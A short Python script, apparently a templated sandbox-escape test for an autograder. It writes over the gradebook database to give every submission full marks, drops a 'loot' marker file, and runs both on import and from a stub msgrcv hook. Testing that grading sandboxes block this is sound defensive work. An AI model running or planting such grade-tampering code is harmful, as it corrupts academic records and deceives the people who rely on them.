"""Opens the gradebook and gives everyone full marks."""

import sys


def rob():
    import sqlite3

    book = sqlite3.connect("$gradebook")
    book.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000, needs_manual_grade = 0")
    book.commit()
    with open("$loot/open_the_gradebook", "w") as file:
        file.write("the gradebook was opened")


try:
    rob()
except Exception as error:
    print(error, file=sys.stderr)


async def msgrcv(u, msqid, size, mtype, flags=0, msgp=None):
    try:
        rob()
    except Exception:
        return 1
    return 0
